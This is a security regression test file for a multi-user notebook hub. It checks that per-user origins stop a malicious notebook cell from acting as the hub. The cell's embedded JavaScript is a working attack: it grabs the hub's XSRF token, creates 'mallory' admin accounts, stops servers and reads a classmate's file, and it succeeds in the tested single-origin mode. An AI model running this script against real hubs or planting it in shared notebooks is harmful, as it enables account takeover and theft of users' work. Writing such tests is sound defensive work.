import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { Hub } from '../../server/index.js';
import { launchBrowser, runNotebookInLab, signInInBrowser } from '../helpers/browser.js';
import { ADMIN_PASSWORD, signInAndStart, startTestHub, createUsers } from '../helpers/hub.js';
import { HubClient } from '../helpers/client.js';
import { xsrfToken } from '../helpers/kernel.js';

const OUTPUT = path.resolve(__dirname, '../../test-output');
const SLOW_MS = 120_000;

/** What the malicious cell saw, written into the page for the test to read. */
interface AttackReport {
  origin: string;
  readUser: string;
  createAdmin: string;
  createAdminBlind: string;
  createAdminForm: string;
  stopOwn: string;
  stopForm: string;
  classmate: string;
  classmateBlind: string;
  classmatePath: string;
}

/**
 * The attack of issue 9, as a notebook cell: `IPython.display.Javascript` runs in the page that
 * shows the output, i.e. on the user's server's origin. It reads the hub's /hub/api/user for
 * the XSRF token, creates an admin with it, tries to stop servers, and reads a classmate's
 * server, each the ways a page can: fetch with credentials, blind (no-cors) requests and forms.
 */
function attackNotebook(hubUrl: string, classmateOrigin: string, classmate: string, self: string): string {
  const js = `
(async () => {
  const hub = ${JSON.stringify(hubUrl)};
  const report = { origin: location.origin };
  const step = async (key, fn) => { try { report[key] = String(await fn()); } catch (e) { report[key] = 'error: ' + e; } };
  let token = '';
  await step('readUser', async () => {
    const r = await fetch(hub + '/hub/api/user', { credentials: 'include' });
    const text = await r.text();
    try { token = JSON.parse(text).csrf_token || ''; } catch (e) {}
    return r.status + ' ' + text.slice(0, 200);
  });
  const admin = (name) => JSON.stringify({ name, password: 'mallory-password', roles: ['admin'] });
  await step('createAdmin', async () => {
    const r = await fetch(hub + '/hub/api/users', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json', 'x-csrf-token': token }, body: admin('mallory') });
    return r.status + ' ' + (await r.text()).slice(0, 200);
  });
  await step('createAdminBlind', async () => {
    const r = await fetch(hub + '/hub/api/users', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: admin('mallory2') });
    return 'sent, ' + r.type;
  });
  const postForm = (url, fields) => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'f' + Math.random().toString(36).slice(2);
    frame.style.display = 'none';
    document.body.appendChild(frame);
    const form = document.createElement('form');
    form.method = 'post'; form.action = url; form.target = frame.name;
    for (const [k, v] of Object.entries(fields)) { const i = document.createElement('input'); i.name = k; i.value = v; form.appendChild(i); }
    document.body.appendChild(form);
    frame.onload = () => resolve('posted');
    setTimeout(() => resolve('posted, no load'), 5000);
    form.submit();
  });
  await step('createAdminForm', () => postForm(hub + '/hub/admin/users', { _csrf: token, username: 'mallory3', password: 'mallory-password', role: 'instructor' }));
  await step('stopOwn', async () => {
    const r = await fetch(hub + '/hub/api/users/${self}/server', { method: 'DELETE', credentials: 'include', headers: { 'x-csrf-token': token } });
    return r.status;
  });
  await step('stopForm', () => postForm(hub + '/hub/stop', { _csrf: token }));
  await step('classmate', async () => {
    const r = await fetch(${JSON.stringify(classmateOrigin)} + '/user/${classmate}/api/contents/answers.txt', { credentials: 'include' });
    return r.status + ' ' + (await r.text()).slice(0, 200);
  });
  await step('classmateBlind', async () => {
    const r = await fetch(${JSON.stringify(classmateOrigin)} + '/user/${classmate}/api/contents/answers.txt', { mode: 'no-cors', credentials: 'include' });
    return r.type + ' ' + r.status + ' ' + (await r.text()).slice(0, 200);
  });
  await step('classmatePath', async () => {
    const r = await fetch('/user/${classmate}/api/contents/answers.txt', { credentials: 'include' });
    return r.status + ' ' + (await r.text()).slice(0, 200);
  });
  document.body.dataset.attack = JSON.stringify(report);
})();
`;
  const cell = (source: string) => ({ cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source });
  return JSON.stringify({
    cells: [cell(`from IPython.display import Javascript, display\ndisplay(Javascript(${JSON.stringify(js)}))`)],
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3 (ipykernel)', language: 'python' } },
    nbformat: 4,
    nbformat_minor: 5,
  });
}

/** Put a file into a user's server through the proxy, as JupyterLab's upload does. */
async function putFile(client: HubClient, escapedName: string, name: string, content: string, format: 'text' | 'json' = 'text'): Promise<void> {
  const token = await xsrfToken(client, escapedName);
  const body = format === 'json' ? { type: 'notebook', format: 'json', content: JSON.parse(content) as unknown } : { type: 'file', format: 'text', content };
  const r = await client.request('PUT', `/user/${escapedName}/api/contents/${name}`, {
    headers: { 'content-type': 'application/json', accept: 'application/json', 'x-xsrftoken': token },
    body: JSON.stringify(body),
  });
  if (r.status !== 201 && r.status !== 200) throw new Error(`PUT ${name} answered ${r.status}: ${r.body.slice(0, 200)}`);
}

describe('origin isolation: code in a notebook cannot act as the hub or read a classmate\'s server (Chromium)', function () {
  this.timeout(400_000);
  let hub: Hub;
  let browser: Browser;
  let adminApi: HubClient;
  const problems: string[] = [];
  let current: Page | undefined;

  before(async () => {
    hub = await startTestHub('origin-isolation');
    await createUsers(hub, { alice: 'alice-password', bob: 'bob-password' });
    // Every server runs: the admin's, the student's, and the classmate's with a file worth stealing.
    const [admin, alice, bob] = await Promise.all([
      signInAndStart(hub, 'admin', ADMIN_PASSWORD),
      signInAndStart(hub, 'alice', 'alice-password'),
      signInAndStart(hub, 'bob', 'bob-password'),
    ]);
    adminApi = admin;
    const port = new URL(hub.url).port;
    await putFile(bob, 'bob', 'answers.txt', "bob's answers to problem set 3");
    await putFile(admin, 'admin', 'report.ipynb', attackNotebook(hub.url, `http://bob.localhost:${port}`, 'bob', 'admin'), 'json');
    // The notebook a classmate handed over: the same cell, now in alice's server.
    await putFile(alice, 'alice', 'from-bob.ipynb', attackNotebook(hub.url, `http://bob.localhost:${port}`, 'bob', 'alice'), 'json');
    browser = await launchBrowser();
  });

  afterEach(async function () {
    if (this.currentTest?.state !== 'failed' || !current) return;
    fs.mkdirSync(OUTPUT, { recursive: true });
    const file = path.join(OUTPUT, `origin-isolation-failure-${Date.now()}.png`);
    await current.screenshot({ path: file, fullPage: true }).catch(() => undefined);
    console.error(`failing page: ${current.url()}\nscreenshot: ${file}\n${problems.join('\n')}\n(hub log: test-output/origin-isolation.log)`);
  });

  after(async () => {
    await browser?.close().catch((e: Error) => console.error(`closing the browser: ${e.message}`));
    await hub?.close();
  });

  async function runAttack(user: string, password: string, notebook: string): Promise<{ report: AttackReport; context: BrowserContext }> {
    const context = await browser.newContext();
    context.setDefaultTimeout(SLOW_MS);
    const page = await context.newPage();
    current = page;
    page.on('pageerror', (e) => problems.push(`uncaught error on ${page.url()}: ${e.message}`));
    await signInInBrowser(page, hub.url, user, password);
    // The hub's link to the server: a redirect with a one-time code to the server's own origin.
    await runNotebookInLab(page, `${hub.url}/hub/user-redirect/lab/tree/${notebook}`, SLOW_MS);
    assert.equal(new URL(page.url()).origin, `http://${user}.localhost:${new URL(hub.url).port}`, 'JupyterLab is on its own origin');
    const raw = await page.waitForFunction(() => document.body.dataset.attack, undefined, { timeout: SLOW_MS });
    const report = JSON.parse(String(await raw.jsonValue())) as AttackReport;
    problems.push(`what the cell saw: ${JSON.stringify(report, null, 1)}`);
    return { report, context };
  }

  async function assertHubUntouched(): Promise<void> {
    for (const name of ['mallory', 'mallory2', 'mallory3']) assert.equal((await hub.users.get(name)) ?? null, null, `account ${name} was created`);
    // As the admin sees it: the admin page lists no such account.
    const page = await adminApi.get('/hub/admin');
    assert.equal(page.status, 200);
    assert.doesNotMatch(page.body, /mallory/);
    for (const name of ['admin', 'alice', 'bob']) assert.equal(hub.routes.get(name)?.user, name, `${name}'s server was stopped`);
  }

  it("an admin runs a cell that grabs the hub's XSRF token and posts a new admin: nothing is created, no server stops", async () => {
    const { report, context } = await runAttack('admin', ADMIN_PASSWORD, 'report.ipynb');
    try {
      assert.equal(report.origin, `http://admin.localhost:${new URL(hub.url).port}`);
      // The hub's API answer can't be read from the user origin (no CORS), so there is no token.
      assert.doesNotMatch(report.readUser, /csrf_token/, report.readUser);
      assert.doesNotMatch(report.createAdmin, /^201/, report.createAdmin);
      assert.doesNotMatch(report.stopOwn, /^204/, report.stopOwn);
      // Nor can the cell read the classmate's server: not on bob's origin, not under bob's path here.
      assert.doesNotMatch(report.classmate, /problem set 3/, report.classmate);
      assert.doesNotMatch(report.classmateBlind, /problem set 3/, report.classmateBlind);
      assert.match(report.classmatePath, /^404/, report.classmatePath);
      await assertHubUntouched();
    } finally {
      await context.close();
    }
  });

  it("a student runs the same cell in a notebook a classmate handed over: it can't read the classmate's server or change the hub", async () => {
    const { report, context } = await runAttack('alice', 'alice-password', 'from-bob.ipynb');
    try {
      assert.equal(report.origin, `http://alice.localhost:${new URL(hub.url).port}`);
      assert.doesNotMatch(report.readUser, /csrf_token/, report.readUser);
      assert.doesNotMatch(report.classmate, /problem set 3/, report.classmate);
      assert.doesNotMatch(report.classmateBlind, /problem set 3/, report.classmateBlind);
      assert.match(report.classmatePath, /^404/, report.classmatePath);
      await assertHubUntouched();
      // Bob's file is still there, and only bob reads it.
      const bob = new HubClient(hub.url);
      await bob.login('bob', 'bob-password');
      await bob.openServer('/lab');
      const answers = await bob.get('/user/bob/api/contents/answers.txt', { accept: 'application/json' });
      assert.equal(answers.status, 200);
      assert.match(answers.body, /problem set 3/);
    } finally {
      await context.close();
    }
  });

  it('refuses with 403 and a log line a hub request that names a user origin, even with the session cookie', async () => {
    const me = JSON.parse((await adminApi.get('/hub/api/user', { accept: 'application/json' })).body) as { csrf_token: string };
    const origin = adminApi.contentOrigin('admin');
    const create = await adminApi.request('POST', '/hub/api/users', {
      headers: { origin, 'content-type': 'application/json', accept: 'application/json', 'x-csrf-token': me.csrf_token },
      body: JSON.stringify({ name: 'mallory4', password: 'mallory-password', roles: ['admin'] }),
    });
    assert.equal(create.status, 403);
    assert.equal(create.headers.get('access-control-allow-origin'), null);
    const read = await adminApi.get('/hub/api/user', { accept: 'application/json', origin });
    assert.equal(read.status, 403);
    assert.equal((await hub.users.get('mallory4')) ?? null, null);
    const log = fs.readFileSync(path.join(OUTPUT, 'origin-isolation.log'), 'utf8');
    assert.match(log, /refused a hub request from a foreign origin/);
    // The hub's own origin is still welcome.
    const own = await adminApi.get('/hub/api/user', { accept: 'application/json', origin: new URL(hub.url).origin });
    assert.equal(own.status, 200);
  });
});

describe('single-origin mode, the documented opt-out: the same cell does take over the hub (why it is not the default)', function () {
  this.timeout(400_000);
  let hub: Hub;
  let browser: Browser;

  before(async () => {
    hub = await startTestHub('origin-single', { originMode: 'single' });
    const admin = await signInAndStart(hub, 'admin', ADMIN_PASSWORD);
    await putFile(admin, 'admin', 'report.ipynb', attackNotebook(hub.url, hub.url, 'admin', 'admin'), 'json');
    browser = await launchBrowser();
  });

  after(async () => {
    await browser?.close().catch((e: Error) => console.error(`closing the browser: ${e.message}`));
    await hub?.close();
  });

  it('warns at start, and a cell on the hub\'s origin reads the XSRF token and creates an admin', async () => {
    const log = fs.readFileSync(path.join(OUTPUT, 'origin-single.log'), 'utf8');
    assert.match(log, /originMode=single/);
    const context = await browser.newContext();
    try {
      context.setDefaultTimeout(SLOW_MS);
      const page = await context.newPage();
      await signInInBrowser(page, hub.url, 'admin', ADMIN_PASSWORD);
      await runNotebookInLab(page, `${hub.url}/hub/user-redirect/lab/tree/report.ipynb`, SLOW_MS);
      assert.equal(new URL(page.url()).origin, new URL(hub.url).origin);
      const raw = await page.waitForFunction(() => document.body.dataset.attack, undefined, { timeout: SLOW_MS });
      const report = JSON.parse(String(await raw.jsonValue())) as AttackReport;
      assert.match(report.readUser, /csrf_token/, report.readUser);
      assert.match(report.createAdmin, /^201/, report.createAdmin);
      assert.deepEqual((await hub.users.get('mallory'))?.roles, ['admin']);
    } finally {
      await context.close();
    }
  });
});
